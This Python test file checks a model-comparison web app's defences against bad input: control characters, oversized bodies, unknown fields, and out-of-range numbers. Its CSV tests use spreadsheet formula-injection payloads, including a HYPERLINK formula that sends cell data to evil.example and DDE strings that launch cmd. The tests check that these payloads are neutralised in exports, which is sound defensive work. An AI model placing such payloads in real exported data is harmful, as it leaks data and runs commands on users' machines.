"""The request path against bad input (issue 15, findings F1, F6, F8, F9, F15, F16): bounds on
lists and strings, control characters, body size, numbers in queries, unknown fields. Each
test reproduces a finding of docs' security probe and checks that nothing was written."""

from __future__ import annotations

import time

import httpx
import pytest
from sqlalchemy import func, select

from app.models import Board, Comparison, Invite, Vote, Voter
from tests.support.clients import browser_like, in_process_client
from tests.support.factories import ready_comparison


async def count(app, model) -> int:
    async with app.state.db.session() as s:
        return (await s.execute(select(func.count()).select_from(model))).scalar_one()


# ---- F1: a ranking is bounded before it is expanded into pairs --------------------------------

async def test_huge_ranking_is_refused_before_any_expansion(client, app):
    c = await ready_comparison(app)
    ranking = [c.takes[0].id, c.takes[1].id] + [f"x{i:05d}" for i in range(5000)]
    started = time.perf_counter()
    r = await client.post(f"/api/comparisons/{c.id}/votes", json={"kind": "ranking", "ranking": ranking})
    assert r.status_code == 422, r.text
    assert "ranking" in r.json()["detail"]
    r = await client.post(f"/c/{c.id}/vote", data={"kind": "ranking", "ranking": ",".join(ranking)})
    assert r.status_code == 422
    assert time.perf_counter() - started < 2
    assert await count(app, Vote) == 0


async def test_ranking_longer_than_the_takes_is_refused_by_the_plain_function(app):
    from app.access import Actor, comparison_for
    from app.errors import InputError
    from app.votes import BallotInput, record_ballot

    c = await ready_comparison(app)
    ids = [t.id for t in c.takes]
    async with app.state.db.session() as s:
        comparison, _ = await comparison_for(s, Actor(open_mode=True), c.id, "vote")
        with pytest.raises(InputError, match="at most 2"):
            await record_ballot(s, comparison, "v1", BallotInput(kind="ranking", ranking=ids + ["nope"]))
        with pytest.raises(InputError, match="at most 2"):
            await record_ballot(s, comparison, "v1", BallotInput(kind="best", best=ids[0], takes=ids + ["a", "b"]))


# ---- F6: NUL and other control characters are a 422 everywhere, before PostgreSQL ------------

CONTROL_PATHS = ["/b/%00", "/api/boards/%00", "/api/comparisons/%00", "/c/%00", "/media/takes/%00/video.mp4",
                 "/s/%00", "/api/comparisons/a%01b", "/api/boards/x%1b"]


@pytest.mark.parametrize("path", CONTROL_PATHS)
async def test_control_characters_in_paths_are_422(client, path):
    r = await client.get(path, headers={"accept": "application/json"})
    assert r.status_code == 422, (path, r.status_code, r.text)
    assert "control character" in r.json()["detail"]


async def test_control_characters_in_queries_are_422(client):
    r = await client.get("/api/estimate?models=demo/aurora&resolution=7%00")
    assert r.status_code == 422 and "control character" in r.json()["detail"]


async def test_control_characters_in_json_and_forms_are_422_and_write_nothing(client, app, no_generation):
    body = {"prompt": "a\u0000b", "models": ["demo/aurora"], "duration_s": 4}
    assert (await client.post("/api/comparisons", json={**body, "prompt": "first"})).status_code == 202
    before = (await count(app, Comparison), await count(app, Voter), await count(app, Board))
    r = await client.post("/api/comparisons", json=body)
    assert r.status_code == 422 and "prompt" in r.json()["detail"] and "control character" in r.json()["detail"]
    r = await client.post("/api/comparisons", json={**body, "prompt": "ok", "negative_prompt": "x\u0007"})
    assert r.status_code == 422 and "negative_prompt" in r.json()["detail"]
    r = await client.post("/api/boards", json={"name": "Board\u0000"})
    assert r.status_code == 422
    r = await client.put("/api/me/name", json={"name": "N\u0000"})
    assert r.status_code == 422
    r = await client.post("/comparisons", data={"prompt": "a\x00b", "models": "demo/aurora", "duration_s": "4"},
                          headers={"accept": "application/json"})
    assert r.status_code == 422, r.text
    r = await client.post("/signin", data={"email": "a\x00@example.com", "password": "x"},
                          headers={"accept": "application/json"})
    assert r.status_code == 422
    # newlines and tabs in text are fine
    r = await client.post("/api/comparisons", json={**body, "prompt": "line one\nline\ttwo\r\n"})
    assert r.status_code == 202, r.text
    after = (await count(app, Comparison), await count(app, Voter), await count(app, Board))
    assert after[0] == before[0] + 1 and after[2] == before[2]


# ---- F8: a body limit while reading ----------------------------------------------------------

async def test_a_body_over_the_limit_is_413_before_it_is_read(app):
    app.state.settings.max_body_bytes = 64 * 1024
    sent = 0

    async def chunks():
        nonlocal sent
        for _ in range(200):   # 200 × 16 KB = 3.2 MB, no Content-Length (chunked)
            sent += 1
            yield b"x" * 16384

    async with in_process_client(app) as c:
        r = await c.post("/api/boards", content=chunks(), headers={"content-type": "application/json"})
        assert r.status_code == 413, r.text
        assert "limit" in r.json()["detail"]
        r = await c.post("/api/boards", content=b"{" + b" " * 70000 + b"}", headers={"content-type": "application/json"})
        assert r.status_code == 413
        # the JSON that may carry a base64 image (and reference video) gets the upload limits on top
        c.cookies.clear()   # a cookie-less script (no CSRF check)
        r = await c.post("/api/comparisons", content=b"{" + b" " * 70000 + b"}",
                         headers={"content-type": "application/json"})
        assert r.status_code == 422
        app.state.settings.max_upload_bytes = 1000
        app.state.settings.max_reference_bytes = 1000   # and the reference video's (app/reference.py)
        c.cookies.clear()
        r = await c.post("/api/comparisons", content=b"{" + b" " * 70000 + b"}",
                         headers={"content-type": "application/json"})
        assert r.status_code == 413
    assert sent < 200
    assert await count(app, Comparison) == 0 and await count(app, Board) == 0


# ---- F9: /api/estimate refuses numbers that are not durations ---------------------------------

@pytest.mark.parametrize("value", ["nan", "inf", "-inf", "-1", "0", "1e308", "61"])
async def test_estimate_refuses_durations_out_of_range(client, value):
    r = await client.get(f"/api/estimate?models=demo/aurora&models=demo/ember&duration_s={value}")
    assert r.status_code == 422, (value, r.text)
    assert "duration_s" in r.json()["detail"]


@pytest.mark.parametrize("query", ["models=", "models=demo/aurora&models=", "models=" + "m" * 121])
async def test_estimate_refuses_an_empty_or_overlong_model_id(client, query):
    r = await client.get(f"/api/estimate?{query}&image=true")
    assert r.status_code == 422, (query, r.text)
    assert "models" in r.json()["detail"]


async def test_estimate_still_estimates(client):
    r = await client.get("/api/estimate?models=demo/aurora&duration_s=4")
    assert r.status_code == 200 and r.json()["duration_s"] == 4


async def test_estimate_names_an_unknown_model_as_a_problem(client):
    """An id the catalog lacks is a problem (the form then shows no price and says why), not
    a model silently left out of the sum; alone, and next to a known one."""
    alone = (await client.get("/api/estimate?models=nope/none")).json()
    assert alone["problems"] == ["unknown model 'nope/none' (GET /api/models lists the catalog)"]
    mixed = (await client.get("/api/estimate?models=demo/aurora&models=nope/none&models=nope/none&duration_s=4")).json()
    assert mixed["problems"] == ["unknown model 'nope/none' (GET /api/models lists the catalog)"]
    assert mixed["duration_s"] == 4
    made = await client.post("/api/comparisons", json={"prompt": "kites", "models": ["demo/aurora", "nope/none"]})
    assert made.status_code == 422 and alone["problems"][0] in made.text


# ---- F15: invites last at least an hour -------------------------------------------------------

async def test_invite_expiry_below_an_hour_is_refused(app):
    from app.errors import InputError
    from app.invites import create_invite
    from tests.support.factories import make_board

    board = await make_board(app, "B")
    async with app.state.db.session() as s:
        for hours in (0.0003, 0.99, 0):
            with pytest.raises(InputError, match="1 hour"):
                await create_invite(s, await s.get(Board, board.id), None, "voter", hours)
        await create_invite(s, await s.get(Board, board.id), None, "voter", 1)
    assert await count(app, Invite) == 1


# ---- F16: unknown JSON fields are refused, named ---------------------------------------------

async def test_unknown_fields_are_refused_with_their_name(client, app, no_generation):
    r = await client.post("/api/comparisons", json={"prompt": "typo", "models": ["demo/aurora"], "duration": 9999})
    assert r.status_code == 422 and "duration" in r.json()["detail"], r.text
    assert "extra" in r.json()["detail"].lower() or "not permitted" in r.json()["detail"].lower()
    c = await ready_comparison(app)
    r = await client.post(f"/api/comparisons/{c.id}/votes", json={
        "take_a": c.takes[0].id, "take_b": c.takes[1].id, "outcome": "a", "weight": 100})
    assert r.status_code == 422 and "weight" in r.json()["detail"]
    r = await client.post("/api/boards", json={"name": "B", "is_admin": True})
    assert r.status_code == 422 and "is_admin" in r.json()["detail"]
    assert await count(app, Comparison) == 1 and await count(app, Vote) == 0


# ---- F5: CSV cells that a spreadsheet would run as a formula ---------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


async def _formula_votes(app) -> None:
    from tests.support.factories import make_voter, vote

    for i, text in enumerate(FORMULAS):
        c = await ready_comparison(app, prompt=text, source_image=False)
        voter = await make_voter(app, name=FORMULAS[-1 - i])
        await vote(app, c, voter.id, take_a=c.takes[0].id, take_b=c.takes[1].id, outcome="a")


def _cells(text: str) -> list[dict]:
    import csv
    import io

    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


async def test_csv_cells_that_start_a_formula_are_neutralised(client, app):
    await _formula_votes(app)
    for url in ("/api/votes.csv", "/api/boards/default/votes.csv"):
        rows = _cells((await client.get(url)).text)
        assert len(rows) == len(FORMULAS)
        for row in rows:
            for column in ("prompt", "judge"):
                assert row[column][0] not in "=+-@\t\r", (url, column, row[column])
                assert row[column].startswith("'") and row[column][1:] in FORMULAS
        assert {r["prompt"][1:] for r in rows} == set(FORMULAS)


async def test_csv_raw_setting_exports_cells_as_stored(client, app):
    await _formula_votes(app)
    app.state.settings.csv_raw = True
    rows = _cells((await client.get("/api/votes.csv")).text)
    assert {r["prompt"] for r in rows} == set(FORMULAS) and {r["judge"] for r in rows} == set(FORMULAS)


async def test_csv_neutralising_keeps_ordinary_cells(client, app):
    from tests.support.factories import make_voter, vote

    c = await ready_comparison(app, prompt="a fox, running", source_image=False)
    voter = await make_voter(app, name="Ann 'quote'")
    await vote(app, c, voter.id, take_a=c.takes[0].id, take_b=c.takes[1].id, outcome="a")
    rows = _cells((await client.get("/api/votes.csv")).text)
    assert rows[0]["prompt"] == "a fox, running" and rows[0]["judge"] == "Ann 'quote'"


# ---- F7: identical votes at once ---------------------------------------------------------------

async def test_identical_votes_at_once_are_idempotent(client, app):
    import asyncio

    c = await ready_comparison(app, models=("demo/aurora", "demo/blocks", "demo/ember"))
    a, b, third = (t.id for t in c.takes)
    url = f"/api/comparisons/{c.id}/votes"
    assert (await client.post(url, json={"take_a": a, "take_b": third, "outcome": "a"})).status_code == 201
    for _ in range(3):
        answers = await asyncio.gather(*(client.post(url, json={"take_a": a, "take_b": b, "outcome": "b"})
                                         for _ in range(20)))
        assert [r.status_code for r in answers] == [201] * 20, [r.text for r in answers if r.status_code != 201][:1]
    async with app.state.db.session() as s:
        active = (await s.execute(select(Vote).where(Vote.superseded_at.is_(None)))).scalars().all()
    assert len(active) == 2
    pair = next(v for v in active if {v.take_a_id, v.take_b_id} == {a, b})
    assert pair.model_b == "demo/blocks" or pair.model_a == "demo/blocks"
    assert (pair.winner == "model_b") == (pair.take_b_id == b)


# ---- F10: a refused request writes nothing ----------------------------------------------------

async def test_refused_anonymous_vote_and_comment_write_no_voter(app):
    from tests.support.factories import make_board
    from tests.support.team import client_for, make_team

    team = await make_team(app, visibility="public")
    c = await ready_comparison(app, team.board)
    other = await ready_comparison(app, await make_board(app, "Other", visibility="public"))
    async with client_for(app) as anon:   # a browser: it has the CSRF cookie and token, no voter yet
        assert (await anon.get(f"/c/{c.id}")).status_code == 200   # the page gives it a voter id, no row
        voters = await count(app, Voter)
        r = await anon.post(f"/api/comparisons/{c.id}/votes",
                            json={"take_a": other.takes[0].id, "take_b": other.takes[1].id, "outcome": "a"})
        assert r.status_code == 422
        r = await anon.post(f"/c/{c.id}/vote", data={"kind": "pair", "take_a": other.takes[0].id,
                                                     "take_b": other.takes[1].id, "outcome": "a"})
        assert r.status_code == 422
        r = await anon.post(f"/api/comparisons/{c.id}/comments", json={"take": c.takes[0].id, "time_s": 1, "body": " "})
        assert r.status_code == 422
        assert await count(app, Voter) == voters
        # and the same browser's good vote still goes through
        r = await anon.post(f"/api/comparisons/{c.id}/votes",
                            json={"take_a": c.takes[0].id, "take_b": c.takes[1].id, "outcome": "a"})
        assert r.status_code == 201, r.text
        assert await count(app, Voter) == voters + 1


async def test_refused_comparison_makes_no_personal_board(app, no_generation):
    from app.models import Membership
    from tests.support.team import make_team

    team = await make_team(app)
    boards, memberships = await count(app, Board), await count(app, Membership)
    async with team.client("outsider") as user:
        r = await user.post("/api/comparisons", json={"prompt": "x" * 5000, "models": ["demo/aurora"]})
        assert r.status_code == 422
        r = await user.post("/api/comparisons", json={"prompt": "p", "models": ["demo/nope"]})
        assert r.status_code == 422
    assert (await count(app, Board), await count(app, Membership)) == (boards, memberships)


async def test_refused_comparison_in_open_mode_makes_no_default_board(app, no_generation):
    """Open mode (no accounts): the first comparison without a board makes the shared default
    board, inside its own transaction, so a refused one leaves none behind (on SQLite the
    SAVEPOINT it was made in used to commit at its RELEASE)."""
    assert await count(app, Board) == 0   # a fresh install: no default board yet
    async with in_process_client(app) as c:
        c = browser_like(c)
        for body in ({"prompt": "p", "models": ["demo/aurora"], "duration_s": 99},
                     {"prompt": "p", "models": ["demo/aurora"], "aspect_ratio": "2:7"},
                     {"prompt": "p", "models": ["demo/nope"]}):
            r = await c.post("/api/comparisons", json=body)
            assert r.status_code == 422, r.text
        assert await count(app, Board) == 0
        r = await c.post("/api/comparisons", json={"prompt": "p", "models": ["demo/aurora"]})
        assert r.status_code == 202, r.text
    assert await count(app, Board) == 1


# ---- F17: the OpenAPI document says what the server answers ----------------------------------

async def test_405_allow_lists_every_method_of_the_path(client):
    r = await client.options("/api/boards/default")
    assert r.status_code == 405 and r.headers["allow"] == "GET, PATCH"
    r = await client.options("/api/boards/default/members/u1")
    assert r.status_code == 405 and r.headers["allow"] == "DELETE, PUT"
    assert r.json()["errors"] == [r.json()["detail"]]


def test_the_method_index_answers_as_every_route_asked(tmp_path):
    """app/web/methods.py MethodIndex (what each 405 uses) against allowed_methods (every route
    asked with every method) on every route's own path, filled in, a step past it and a step
    short of it, and a few paths no route serves."""
    import re

    from app.main import create_app
    from app.web.methods import MethodIndex, _leaves, allowed_methods
    from tests.support.settings import make_settings

    routes = create_app(make_settings(f"sqlite+aiosqlite:///{tmp_path / 'x.db'}", tmp_path)).router.routes
    index = MethodIndex(routes)
    paths = {"/", "/nothing/here", "/api", "/api/", "/static/app.css", "/api/suites/preview", "/api/boards//members"}
    for route in _leaves(routes):
        filled = re.sub(r"\{[^}]+\}", "x1", getattr(route, "path", "/"))
        paths |= {filled, filled + "/more", filled.rsplit("/", 1)[0] or "/"}
    assert len(paths) > 100
    for path in sorted(paths):
        scope = {"type": "http", "path": path, "root_path": "", "method": "OPTIONS"}
        assert index.allowed(scope) == allowed_methods(routes, scope), path


async def test_starlette_refusals_have_the_error_shape(client):
    r = await client.post("/api/boards", content=b"{not json", headers={"content-type": "application/json"})
    assert r.status_code in (400, 422) and set(r.json()) == {"detail", "errors"}
    r = await client.get("/api/no-such-route")
    assert r.status_code == 404 and set(r.json()) == {"detail", "errors"}


def test_openapi_documents_the_refusals_every_route_can_give():
    from pathlib import Path

    from app.main import create_app
    from tests.support.settings import make_settings

    schema = create_app(make_settings("sqlite+aiosqlite:////nonexistent.db", Path("/tmp/takes-openapi"))).openapi()
    for path, item in schema["paths"].items():
        for method, op in item.items():
            got = set(op["responses"])
            assert "401" in got, (method, path)
            if method in ("post", "put", "patch", "delete"):
                assert "403" in got, (method, path)
            if "{" in path:
                assert "404" in got, (method, path)
            if "requestBody" in op:
                assert {"400", "413"} <= got, (method, path)
            for param in op.get("parameters", []):
                if param["schema"].get("type") == "string" and "enum" not in param["schema"]:
                    assert param["schema"]["pattern"] == "^[^\\x00-\\x1f\\x7f]*$", (method, path, param["name"])
    from app.web.inputs import NOT_BLANK

    body = schema["components"]["schemas"]["ComparisonIn"]["properties"]
    assert body["prompt"]["pattern"] == NOT_BLANK and body["prompt"]["maxLength"] == 4000
    assert body["negative_prompt"]["anyOf"][0]["pattern"] == "^[^\\x00-\\x08\\x0b\\x0c\\x0e-\\x1f\\x7f]*$"
    assert schema["components"]["schemas"]["ComparisonIn"]["additionalProperties"] is False
